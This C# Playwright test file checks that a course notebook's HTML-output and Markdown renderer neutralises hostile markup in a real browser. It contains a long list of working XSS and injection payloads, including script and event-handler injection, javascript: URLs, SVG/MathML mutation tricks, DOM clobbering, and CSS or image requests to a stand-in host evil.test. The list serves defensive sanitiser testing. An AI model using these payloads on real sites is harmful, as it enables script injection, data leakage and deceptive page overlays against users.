using System.Net;
using System.Text.Json;
using Browsing;
using Course.Pages;
using Microsoft.Playwright;

namespace Course.Tests.Pages;

/// <summary>
/// HTML that wants to do more than be seen, as an output and within prose, in a real browser. The page has no policy that would
/// forbid scripts: what runs nothing there runs nothing anywhere. It keeps frames from leading elsewhere, as all pages do.
/// </summary>
public sealed class HostileHtmlTests(Browser browser) : IClassFixture<Browser>
{
    private const string Address = "http://course.test/";

    /// <summary>What the test itself has the page ask for.</summary>
    private const string Last = Address + "last";

    /// <summary>Each would call <c>pwn()</c>, ask evil.test for something, or cover the page around it.</summary>
    private static readonly string[] Attempts =
    [
        "<script>pwn()</script>",
        "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
        "<script type=module>pwn()</script>",
        "<scr<script>ipt>pwn()</script>",
        "<<SCRIPT>pwn();//\\<</SCRIPT>",
        "<script\u00a0x>pwn()</script>",
        "<img src=x onerror=pwn()>",
        "<img src=x onerror\n=\npwn()>",
        "<IMG \"\"\"><SCRIPT>pwn()</SCRIPT>\"\\>",
        "<img src=\"x` `<script>pwn()</script>\"` `>",
        "<img src=/ onerror=\"&#0000112;wn()\">",
        "<body onload=pwn()>",
        "<svg onload=pwn()>",
        "<svg/onload=pwn()>",
        "<svg><script>pwn()</script></svg>",
        "<svg><script href=\"data:text/javascript,pwn()\"/></svg>",
        "<svg><a xlink:href=\"javascript:pwn()\"><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=pwn()></svg>",
        "<svg><a><animate attributeName=href values=javascript:pwn() /><text x=20 y=20>x</text></a>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwn()</script></svg>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></foreignObject></svg>",
        "<svg><foreignobject><body xmlns='http://www.w3.org/1999/xhtml'><script>pwn()</script></foreignobject></svg>",
        "<svg><image href=\"http://evil.test/x.png\"/></svg>",
        "<svg><rect width=10 height=10 fill=\"url(http://evil.test/x.svg#a)\"/></svg>",
        "<svg><rect width=10 height=10 style=\"fill:url(http://evil.test/x.svg#a)\" filter=\"url('http://evil.test/y#f')\"/></svg>",
        "<svg><style>@import 'http://evil.test/x.css';</style></svg>",
        "<svg><title><style><img src=x onerror=pwn()></style></title></svg>",
        "<svg><desc><noscript><img title=\"</noscript><img src=x onerror=pwn()>\"></noscript></desc></svg>",
        "<svg></p><style><g title=\"</style><img src=x onerror=pwn()>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>pwn()</script>\">",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=pwn()></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
        "<noembed><img src=\"</noembed><img src=x onerror=pwn()>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=pwn()>\">",
        "<template><img src=x onerror=pwn()></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=pwn()>\">",
        "<p><!--[if gte IE 4]><script>pwn()</script><![endif]--></p>",
        "<!--><img src=x onerror=pwn()>-->",
        "<!-- --!><img src=x onerror=pwn()> -->",
        "<a href=\"javascript:pwn()\">x</a>",
        "<a href=\"  java\tscript:pwn()\">x</a>",
        "<a href=\"&#106;avascript&colon;pwn()\">x</a>",
        "<a href=\"\u0001javascript:pwn()\">x</a>",
        "<a href=\"vbscript:pwn()\">x</a>",
        "<a href=\"data:text/html,<script>opener.pwn()</script>\" target=_blank>x</a>",
        "<a href=\"blob:http://course.test/1\">x</a>",
        "<img src=\"javascript:pwn()\">",
        "<img src=\"http://evil.test/pixel.png\">",
        "<img src=\"//evil.test/pixel.png\" srcset=\"http://evil.test/2x.png 2x\">",
        "<img src=\"https:evil.test/pixel.png\">",
        "<img src=\"data:text/html,<script>pwn()</script>\">",
        "<picture><source srcset=http://evil.test/x.png><img></picture>",
        "<table background=http://evil.test/x.png><tr><td background=http://evil.test/y.png>x</table>",
        "<video poster=http://evil.test/x.png><source onerror=pwn()></video>",
        "<audio src=http://evil.test/x.mp3 onerror=pwn() autoplay>",
        "<iframe src=\"javascript:parent.pwn()\"></iframe>",
        "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
        "<iframe src=http://evil.test/></iframe>",
        "<object data=\"data:text/html,<script>parent.pwn()</script>\"></object>",
        "<embed src=\"http://evil.test/x.swf\">",
        "<link rel=stylesheet href=http://evil.test/x.css>",
        "<link rel=preload as=image href=http://evil.test/x.png>",
        "<meta http-equiv=refresh content=\"0;url=http://evil.test/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">",
        "<base href=http://evil.test/><img src=x.png>",
        "<style>@import url(http://evil.test/x.css);</style>",
        "<style>body{background:url(http://evil.test/x.png)} .page{position:fixed}</style>",
        "<div style=\"background:url(http://evil.test/x.png)\">x</div>",
        "<div style=\"background:u\\72l(http://evil.test/x.png)\">x</div>",
        "<div style=\"background-image:image-set('http://evil.test/x.png' 1x)\">x</div>",
        "<div style=\"--x:url(http://evil.test/x.png);background:var(--x)\">x</div>",
        "<div style=\"width:expression(pwn())\">x</div>",
        "<div style=\"list-style:url(http://evil.test/x.png)\"><li>x</div>",
        "<div style=\"position:fixed;inset:0;background:red;z-index:99999\">over all</div>",
        "<div style=\"position:absolute;top:-500px;left:0;width:2000px;height:2000px\">over all</div>",
        "<div style=\"margin:-500px;width:3000px;height:3000px;background:red\">over all</div>",
        "<div style=\"transform:scale(50)\">over all</div>",
        "<div style=\"width:9999px;height:9999px;display:block\">large</div>",
        "<div class=\"page\">as if it were the page's own</div>",
        "<a id=pwn href=mailto:x>clobbers</a><a id=pwn name=then href=mailto:x>clobbers</a>",
        "<img name=getElementById><form name=body><input name=firstChild></form>",
        "<svg id=document><g id=pwn></g></svg>",
        "<form action=http://evil.test/ id=f><button form=f>Sign in</button></form>",
        "<input autofocus onfocus=pwn()>",
        "<button formaction=javascript:pwn()>x</button>",
        "<isindex type=image src=1 onerror=pwn()>",
        "<details open ontoggle=pwn()>x</details>",
        "<marquee onstart=pwn()>x</marquee>",
        "<div onpointerrawupdate=pwn() style=\"width:100%\">x</div>",
        "<x-y onclick=pwn()>x</x-y>",
        "<div data-bind=\"x\" slot=x is=x-y>x</div>",
        "<figure class=\"async-chart\"><script>pwn()</script></figure>",
        "<figure class=\"async-chart\"><script type=\"application/json\">{\"a\":\"</script><script>pwn()</script>\"}</script></figure>",
        "<figure class=\"async-chart\"><script type=\"application/json\">{\"a\":\"<!--<script>\"}</script></figure><p>after</p>",
        "<figure class=\"async-chart\" data-json=\"0\"><style>.page{display:none}</style><style>@import 'http://evil.test/x.css';</style></figure>",
        "</div></div></main></body><script>pwn()</script>",
        "<plaintext><script>pwn()</script>",
        "<title><script>pwn()</script></title>",
        "<p title=\"&quot;><img src=x onerror=pwn()>\">x</p>",
        "<img alt=\"`><img src=x onerror=pwn()>\">",
        "<a href=http://evil.test/ping ping=http://evil.test/ping>x</a>",
        "\0<scr\0ipt>pwn()</scr\0ipt>",
        "<table><td><svg><desc><td><style><img src=x onerror=pwn()>",
        "&lt;script&gt;pwn()&lt;/script&gt;",
    ];

    [Theory]
    [InlineData("an output")]
    [InlineData("prose")]
    [InlineData("an SVG output")]
    public async Task Nothing_runs_asks_the_network_or_leaves_its_place(string role)
    {
        var fragments = Attempts.Select(attempt => Html(role, attempt)).ToArray();
        var asked = new List<string>();
        await using var page = await browser.OpenAsync(width: 1000);
        await page.Raw.RouteAsync("**/*", route =>
        {
            if (route.Request.Url == Address) return route.FulfillAsync(new RouteFulfillOptions { ContentType = "text/html; charset=utf-8", Body = Page(fragments) });
            if (!route.Request.Url.StartsWith("data:", StringComparison.Ordinal) && route.Request.Url != Last) asked.Add(route.Request.Url);
            return route.AbortAsync();
        });
        await page.Raw.GotoAsync(Address);

        // As a document, then piece by piece as scripts change a page.
        await CheckAsync("document");
        await page.EvaluateAsync<int>(
            $$"""(() => { const all = {{JsonSerializer.Serialize(fragments)}}; document.querySelectorAll('.output').forEach((place, i) => place.innerHTML = all[i]); return Promise.all([...document.querySelectorAll('iframe')].map(frame => new Promise(done => frame.onload = done))).then(frames => frames.length); })()""");
        await CheckAsync("changed");

        async Task CheckAsync(string how)
        {
            await UntilQuietAsync(page);
            Assert.Equal(Attempts.Length, await page.EvaluateAsync<int>("document.querySelectorAll('main > div.page > .output').length"));
            var problems = await page.EvaluateAsync<string[]>("problems()");
            Assert.True(problems.Length == 0, $"{role}, {how}:\n" + string.Join('\n', problems.Select(problem => $"{problem}\n  {Attempts[int.Parse(problem.Split(' ')[0])]}")));
            Assert.Empty(asked);
            Assert.Equal(Address, page.Raw.Url);
        }
    }

    [Fact]
    public async Task The_attempts_succeed_on_a_page_that_lets_them()
    {
        var asked = 0;
        await using var page = await browser.OpenAsync();
        await page.Raw.RouteAsync("**/*", route =>
        {
            if (route.Request.Url == Address) return route.FulfillAsync(new RouteFulfillOptions { ContentType = "text/html", Body = Page([]) });
            if (route.Request.Url != Last) Interlocked.Increment(ref asked);
            return route.AbortAsync();
        });
        await page.Raw.GotoAsync(Address);
        await page.EvaluateAsync<int>(
            $$"""(() => { const all = {{JsonSerializer.Serialize(Attempts.Where(attempt => !attempt.Contains("refresh", StringComparison.Ordinal)))}}; for (const html of all) document.body.appendChild(document.createElement('div')).innerHTML = html; return 0; })()""");
        await UntilQuietAsync(page);
        Assert.InRange(await page.EvaluateAsync<int>("pwned.length"), 20, 200);
        Assert.InRange(asked, 10, 100);
    }

    [Fact]
    public void What_needs_scripts_or_style_sheets_is_framed_and_everything_else_is_not()
    {
        Assert.All(
            [
                "<script>1</script>", "<b onclick=a()>x</b>", "<button>x</button>", "<style>p{}</style><p>", "<canvas></canvas>",
                "<a href=javascript:x()>x</a>", "<iframe></iframe>", "<svg><style>a{}</style></svg>", "<svg><animate/></svg>", "<my-tag></my-tag>",
            ],
            html => Assert.IsType<FramedFragment>(HtmlCleaner.Output(html)));
        Assert.All(
            [
                "<b>x</b>", "<table><tr><td style='color:red'>x</table>", "<details><summary>x</summary></details>", "<svg><rect/></svg>", "text",
                "<style>.dni-x{}</style><div class=dni-plaintext>", "<figure class=async-chart><style></style><script></script></figure>", "<script", "&lt;script>",
            ],
            html => Assert.IsType<InlineFragment>(HtmlCleaner.Output(html)));
    }

    /// <summary>
    /// Pictures fail, timers of a refresh run out: all of it starts within the load of the page and of its frames and one turn. What
    /// the page asks for after that is answered after all else.
    /// </summary>
    private static async Task UntilQuietAsync(Page page)
    {
        await page.EvaluateAsync<bool>(
            $$"""
            (async () => {
              await new Promise(done => requestAnimationFrame(() => setTimeout(done)));
              const picture = new Image();
              await new Promise(done => { picture.onerror = done; picture.src = '{{Last}}'; });
              return true;
            })()
            """);
    }

    private static string Html(string role, string attempt) => role switch
    {
        "prose" => MarkdownHtml.Render(attempt, [], links: null),
        "an SVG output" => Show(OutputHtml.Render(Outputs.Display(("image/svg+xml", attempt)))),
        _ => Show(OutputHtml.Render(Outputs.Display(("text/html", attempt)))),
    };

    private static string Show(Fragment fragment) => fragment switch
    {
        InlineFragment { Html: var html } => html,
        FramedFragment { Document: var document } => $"<iframe class=\"frame\" sandbox=\"allow-scripts\" srcdoc=\"{WebUtility.HtmlEncode(document)}\"></iframe>",
        _ => throw new InvalidOperationException(),
    };

    private static string Page(string[] fragments) => $$"""
        <!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="frame-src 'none'"><style>.page { padding: 20px } .output { width: 300px; max-height: 200px; margin-bottom: 20px }
        {{NotebookPage.FragmentStyle}}</style>
        <script>
        window.pwned = [];
        window.pwn = () => pwned.push(document.currentScript?.outerHTML ?? 'a handler');
        window.problems = () => {
          const found = pwned.map(how => `0 ran: ${how}`);
          document.querySelectorAll('.output').forEach((output, i) => {
            for (const element of output.querySelectorAll('*')) {
              const bad = [...element.attributes].find(({ name, value }) =>
                name.startsWith('on') || (/^(xlink:)?href$|^src$|^action$|^formaction$/.test(name) && !/^(https?:|mailto:|#|data:image\/|$)/.test(value)));
              if (bad) found.push(`${i} has ${bad.name}=${bad.value}`);
              if (element.localName === 'script' && element.type !== 'application/json') found.push(`${i} has a script`);
              if (element.id === 'pwn' || element.id === 'document' || element.getAttribute('name')) found.push(`${i} has the name ${element.id}`);
              if (element.classList.contains('page')) found.push(`${i} has a class of the page`);
            }
            output.scrollIntoView();
            const { left, top, right, bottom } = output.getBoundingClientRect();
            for (const [x, y] of [[left - 10, top + 5], [right + 10, top + 5], [left + 5, top - 10], [left + 5, bottom + 10], [right + 300, top]]) {
              if (output.contains(document.elementFromPoint(x, y))) found.push(`${i} covers the page`);
            }
          });
          if (typeof pwn !== 'function' || typeof document.getElementById !== 'function' || document.body.localName !== 'body') found.push('0 clobbered');
          return found;
        };
        </script>
        <main><div class="page">{{string.Concat(fragments.Select(fragment => $"<div class=\"output\">{fragment}</div>\n"))}}</div></main>
        """;
}
